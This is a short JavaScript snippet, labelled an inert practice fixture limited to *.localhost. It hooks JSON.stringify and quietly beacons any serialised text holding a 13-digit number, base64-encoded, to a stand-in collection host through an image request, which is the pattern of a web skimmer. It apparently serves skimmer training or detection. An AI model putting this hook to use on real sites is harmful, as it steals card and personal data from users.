/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const bare = JSON.stringify;
  JSON.stringify = function (...args) {
    const text = bare.apply(this, args);
    if (/\d{13}/.test(text ?? '')) {
      new Image().src = `${home}/lib/j.gif?v=${encodeURIComponent(btoa(encodeURIComponent(text)))}`;
    }
    return text;
  };
})();
